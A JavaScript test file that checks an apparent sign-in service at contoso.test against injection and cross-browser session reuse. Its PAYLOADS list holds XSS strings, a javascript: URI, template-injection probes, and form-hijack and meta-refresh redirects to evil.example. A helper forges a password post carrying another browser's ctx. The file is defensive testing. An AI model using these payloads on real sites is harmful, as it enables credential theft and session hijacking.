// What strangers put into requests stays text, and what belongs to one browser is worth nothing in another.

import assert from "node:assert/strict";
import { test } from "node:test";
import { readEnvironment } from "../../node/environment.js";
import { chromiumFor } from "../chromium.js";
import { answer, enter, signIn } from "../keyboard.js";
import { look } from "../look.js";
import { authorize } from "../requests.js";

const dev = readEnvironment();
const web = dev.application("web", "contoso.test");
const alice = dev.user("alice@contoso.test");
const bounded = { timeout: 90_000 };

const PAYLOADS = [
    `"><script>window.broken=1</script>`,
    `'"><img src=x onerror="window.broken=1">`,
    `</form><form action="https://evil.example"><input name=passwd>`,
    `</title></script></style></textarea><svg onload=window.broken=1>`,
    `" autofocus onfocus="window.broken=1" x="`,
    `javascript:window.broken=1`,
    `&quot;&gt;&#60;script>window.broken=1</script>`,
    `<base href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example">`,
    `a\u2028\u2029\u202e"><b>`,
    `{{7*7}}{ $application }\${7*7}<!--`,
];

const chromium = chromiumFor(dev);
const { newPerson } = chromium;

/** The page has the elements that it `usually` has, and nothing of the stranger's ran. */
async function isInert(page, usually) {
    const now = await shape(page);
    assert.deepEqual(now.elements, usually.elements);
    assert.equal(now.broken, "undefined");
}

function shape(page) {
    return page.evaluate(() => ({
        broken: typeof window.broken,
        elements: [...document.querySelectorAll("*:not(wbr)")].map(
            (element) => `${element.tagName} ${element.getAttributeNames().sort()}`,
        ),
    }));
}

test("AZ-40, LG-19: a hostile login_hint is shown as it is, and is nothing more", bounded, async () => {
    const { page, watch } = await newPerson();
    await page.goto(authorize(dev, web, { login_hint: "somebody@contoso.test" }));
    const usual = await shape(page);
    for (const payload of PAYLOADS) {
        const hint = `a@${payload}`;
        await page.goto(authorize(dev, web, { login_hint: hint }));
        await isInert(page, usual);
        assert.equal(await page.locator(".account .who bdi").textContent(), [...hint].slice(0, 113).join(""));
    }
    // What is no account name at all is not even shown.
    await page.goto(authorize(dev, web));
    const unnamed = await shape(page);
    for (const payload of PAYLOADS) {
        await page.goto(authorize(dev, web, { login_hint: payload }));
        await isInert(page, unnamed);
        assert.equal(await page.locator("#i0116").inputValue(), "");
    }
    await watch.verdict();
});

test("LG-19: a hostile account name comes back in its field, and is nothing more", bounded, async () => {
    const { page, watch } = await newPerson();
    await page.goto(authorize(dev, web));
    await answer(page, "a@@b");
    const usual = await shape(page);
    for (const payload of PAYLOADS) {
        await answer(page, payload);
        await isInert(page, usual);
    }
    await answer(page, PAYLOADS[0]);
    assert.equal(await page.locator("#i0116").inputValue(), PAYLOADS[0]);
    await watch.verdict();
});

test("AZ-19: a hostile state reaches the application as it was, through a page in which it is nothing more", bounded, async () => {
    const { page, context, watch } = await newPerson({ javaScript: false });
    await page.goto(authorize(dev, web));
    await signIn(page, alice);
    await page.goto(authorize(dev, web, { response_mode: "form_post" }));
    const usual = await shape(page);
    const withScript = await newPerson();
    await withScript.context.addCookies(await context.cookies());
    for (const payload of PAYLOADS) {
        const address = authorize(dev, web, { response_mode: "form_post", state: payload });
        await page.goto(address);
        await isInert(page, usual);
        await enter(page);
        assert.equal(chromium.application.lastArrival.state, payload);
        // And with the script that carries it over.
        await withScript.page.goto(address).catch(() => {});
        await withScript.page.waitForURL(web.redirect_uris[0]);
        assert.equal(chromium.application.lastArrival.state, payload);
    }
    await watch.verdict();
    await withScript.watch.verdict();
});

test("LG-19: what an error page repeats of a request is text", bounded, async () => {
    const { page, watch } = await newPerson();
    await page.goto(authorize(dev, web, { redirect_uri: "https://elsewhere.example/" }));
    const usual = await shape(page);
    for (const payload of PAYLOADS) {
        await page.goto(authorize(dev, web, { redirect_uri: payload }));
        await isInert(page, usual);
    }
    await watch.verdict();
});

test("AZ-33: a page opened in one browser is worth nothing in another, which is told to begin again", bounded, async () => {
    const attacker = await newPerson();
    await attacker.page.goto(authorize(dev, web, { login_hint: alice.upn }));
    const ctx = await attacker.page.locator("input[name=ctx]").last().inputValue();

    const victim = await newPerson();
    const { page, watch } = victim;
    // Without a conversation of their own, and with one.
    for (const address of [`${dev.origin}/`, authorize(dev, web)]) {
        await page.goto(address);
        await Promise.all([page.waitForEvent("load"), page.evaluate(submitPassword, [ctx, alice.password])]);
        assert.match(await page.locator("h1").textContent(), /expired/);
        assert.ok(!(await victim.context.cookies()).some(({ name }) => name === "__Host-idp.sso"));
    }
    await look(victim, "error-expired", { focus: "#idSIButton9" });
    await watch.verdict();
});

test("AZ-33: the way back to the application is closed to another browser", bounded, async () => {
    const attacker = await newPerson();
    let wayBack;
    attacker.page.on("request", (request) => {
        if (request.url().includes("/authorize/resume?")) {
            wayBack = request.url();
        }
    });
    await attacker.page.goto(authorize(dev, web));
    await signIn(attacker.page, alice);
    assert.ok(wayBack);
    const { page, watch } = await newPerson();
    await page.goto(wayBack);
    assert.match(await page.locator("h1").textContent(), /expired/);
    await watch.verdict();
    await attacker.watch.verdict();
});

/** Sends the password form as the page would, with somebody else's ctx. */
function submitPassword([ctx, password]) {
    const form = document.createElement("form");
    form.method = "post";
    form.action = "/signin/password";
    for (const [name, value] of Object.entries({ ctx, passwd: password })) {
        form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
    }
    document.body.append(form);
    form.submit();
}
